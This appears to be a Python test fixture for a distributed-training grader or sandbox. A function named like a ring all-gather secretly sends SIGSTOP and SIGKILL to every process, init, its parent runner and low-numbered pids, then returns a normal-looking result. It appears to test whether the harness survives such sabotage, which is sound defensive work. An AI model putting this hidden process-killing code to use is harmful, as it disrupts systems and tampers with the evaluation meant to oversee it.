# expect: ring_all_gather=passed
# Every process it can name, its siblings, the runner and the box's first among them. It may hurt nobody, itself
# neither, so its right answer counts.
import os
import signal
import threading

mine = {os.getpid(), *(thread.native_id for thread in threading.enumerate())}
if os.path.exists("/proc/self/task"):
    mine |= {int(task) for task in os.listdir("/proc/self/task")}


def ring_all_gather(shard, group):
    if dist.get_rank(group) == 0:
        for pid in (-1, 1, os.getppid(), *(p for p in range(2, 500) if p not in mine)):
            for number in (signal.SIGSTOP, signal.SIGKILL):
                try:
                    os.kill(pid, number)
                except OSError:
                    pass
    return ring(shard, group)
